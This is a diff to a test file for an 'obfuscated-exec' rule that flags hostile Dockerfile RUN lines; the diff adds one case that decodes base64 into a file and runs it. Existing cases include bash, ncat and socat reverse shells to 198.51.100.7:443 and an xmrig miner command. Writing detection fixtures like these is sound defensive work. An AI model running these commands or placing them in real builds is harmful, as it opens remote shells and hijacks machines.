@@ -14,6 +14,7 @@ describe('obfuscated-exec', () => {
     ['a connection', 'RUN «bash -i >& /dev/tcp/198.51.100.7/443» 0>&1'],
     ['netcat', 'RUN «ncat 198.51.100.7 443 -e /bin/bash»'],
     ['socat', `RUN «socat exec:'bash -li',pty tcp:198.51.100.7:443»`],
+    ['a file with an argument', 'RUN echo YQ== | base64 -d > /t; «sh -x /t /a»'],
     ['a miner', 'RUN «./xmrig -o pool.example.com:3333 -u x» && «a -o stratum+tcp://pool.example.com:3333»'],
   ])('reports %s', (_name, text) =>
     expectMarks(rule, 'Dockerfile', `FROM debian:12\n${text.replace('» 0>&1', ' 0>&1»')}`),
